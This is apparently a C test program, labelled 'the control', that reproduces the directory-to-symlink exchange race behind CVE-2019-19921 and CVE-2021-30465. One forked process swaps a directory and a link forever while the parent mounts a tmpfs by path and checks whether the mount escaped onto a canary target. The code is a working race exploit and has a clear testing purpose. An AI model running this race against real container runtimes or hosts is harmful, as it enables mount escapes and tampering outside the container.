// A directory of an image that is exchanged with a symbolic link, for ever, while somebody mounts there (CVE-2019-19921, CVE-2021-30465).
#include "attack.h"
#include <time.h>

#ifndef RENAME_EXCHANGE
#define RENAME_EXCHANGE 2
#endif

static void flip(const char *directory, const char *link) {
    for (;;) renameat2(AT_FDCWD, directory, AT_FDCWD, link, RENAME_EXCHANGE);
}

// The control: mounts by path, as runtimes did, and looks whether the link's target was hit.
static int by_path(const char *directory, const char *link, const char *canary) {
    struct stat before, after;
    stat(canary, &before);
    const pid_t racer = fork();
    if (racer == 0) flip(directory, link);
    int hit = 0, tries = 0;
    for (const time_t end = time(0) + 10; !hit && time(0) < end; tries++) {
        if (mount("hearth", directory, "tmpfs", 0, "size=4k") != 0) continue;
        hit = stat(canary, &after) == 0 && after.st_dev != before.st_dev;
        // Wherever it landed.
        while (umount2(canary, MNT_DETACH) == 0) { }
        while (umount2(directory, MNT_DETACH) == 0) { }
    }
    kill(racer, SIGKILL);
    waitpid(racer, 0, 0);
    say("by_path", hit ? "ok" : "none");
    return 0;
}

int main(int argc, char **argv) {
    if (argc == 4 && strcmp(argv[1], "flip") == 0) flip(argv[2], argv[3]);
    if (argc == 5 && strcmp(argv[1], "by_path") == 0) return by_path(argv[2], argv[3], argv[4]);
    return 64;
}
